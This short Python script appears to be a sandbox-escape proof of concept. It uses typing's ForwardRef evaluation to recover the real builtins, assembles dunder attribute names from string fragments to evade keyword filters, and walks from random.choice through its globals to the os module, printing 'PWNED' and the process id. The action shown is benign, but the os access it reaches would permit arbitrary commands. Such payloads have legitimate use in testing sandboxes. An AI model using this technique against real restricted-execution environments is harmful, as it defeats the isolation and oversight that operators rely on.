# reflect: random.choice.__func__.__globals__['_os'] by computed names
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

import random
fn = ga(random.choice, "__fu" + "nc__")
g = ga(fn, "__glob" + "als__")
print(M, g["_o" + "s"].getpid())
